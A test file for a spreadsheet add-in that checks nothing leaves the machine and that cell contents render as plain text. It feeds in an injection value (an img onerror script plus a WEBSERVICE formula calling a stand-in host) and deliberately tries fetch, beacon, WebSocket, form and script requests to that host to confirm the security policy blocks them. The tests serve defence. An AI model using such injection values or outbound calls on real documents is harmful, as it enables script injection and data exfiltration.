/** What an office's IT asks first: that nothing leaves the machine, and that what stands in cells stays text. */
import { Desk } from './support/desk';

jest.setTimeout(180_000);

const ELSEWHERE = 'https://elsewhere.example';
const HOSTILE = `<img src=${ELSEWHERE}/cell onerror="parent.leaked=1;window.leaked=1">=WEBSERVICE("${ELSEWHERE}")`;

describe('the add-in at work', () => {
  let desk: Desk;
  const requested: string[] = [];
  /** what became of requests that failed */
  const failures = new Map<string, string | undefined>();
  beforeAll(async () => {
    desk = await Desk.open();
    desk.page.context().on('request', (request) => requested.push(request.url()));
    desk.page
      .context()
      .on('requestfailed', (request) => failures.set(request.url(), request.failure()?.errorText));
    await desk.page.reload();
    await desk.page.waitForFunction(() => window.preview !== undefined);
    await desk.settled();
  });
  afterAll(() => desk.close());

  const elsewhere = () => {
    const own = new URL(process.env.OGI_PREVIEW_URL!).origin;
    return requested.filter((url) => !url.startsWith(`${own}/`) && !/^(data|blob):/.test(url));
  };

  test('builds, checks and writes with requests to its own address alone', async () => {
    await desk.reportOn({ organ: HOSTILE, level: 'county', year: 2025 });
    await desk.ribbon('建表').click();
    await desk.pane.getByText('已建“申请办理”').waitFor();
    await desk.page.evaluate((text) => window.preview!.paste('申请办理!D5', [[text, 3, text]]), HOSTILE);
    await desk.ribbon('一键审核').click();
    await desk.settled();
    await desk.ribbon('生成正文').click();
    await desk.settled();
    expect(requested.length).toBeGreaterThan(5);
    expect(elsewhere()).toEqual([]);
    expect(desk.complaints).toEqual([]);
  });

  test('what stands in cells is shown as text, and is no markup and no script', async () => {
    const made = await desk.paneFrame.evaluate(() => ({
      images: document.querySelectorAll('img').length,
      leaked: 'leaked' in window || 'leaked' in parent,
      shown: document.body.textContent.includes('<img src='),
    }));
    expect(made).toEqual({ images: 0, leaked: false, shown: true });
  });

  test('its policy stops every way out that a page has', async () => {
    const policy = await desk.paneFrame
      .locator('meta[http-equiv=Content-Security-Policy]')
      .getAttribute('content');
    expect(policy).not.toMatch(/unsafe-eval|https:/);
    const stopped = await desk.paneFrame.evaluate(async (address) => {
      const directives: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        directives.push(effectiveDirective),
      );
      const add = (tag: string, attributes: Record<string, string>) => {
        const made = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
        document.body.append(made);
        return made;
      };
      await fetch(`${address}/fetch`).catch(() => undefined);
      navigator.sendBeacon(`${address}/beacon`, 'x');
      try {
        new WebSocket(address.replace('https', 'wss'));
      } catch {
        // some engines throw, others tell of it later
      }
      add('img', { src: `${address}/image` });
      add('script', { src: `${address}/script` });
      add('iframe', { src: `${address}/frame` });
      add('iframe', { name: 'answer' });
      const form = add('form', { action: `${address}/form`, method: 'post', target: 'answer' });
      (form as HTMLFormElement).submit();
      add('link', { rel: 'stylesheet', href: `${address}/style` });
      add('script', {}).textContent = 'window.leaked = 1';
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { directives: [...new Set(directives)].sort(), leaked: 'leaked' in window };
    }, ELSEWHERE);
    expect(stopped).toEqual({
      directives: ['connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem', 'style-src-elem'],
      leaked: false,
    });
    expect(elsewhere().length).toBeGreaterThan(0);
    expect(new Set(elsewhere().map((url) => failures.get(url)))).toEqual(new Set(['csp']));
  });
});
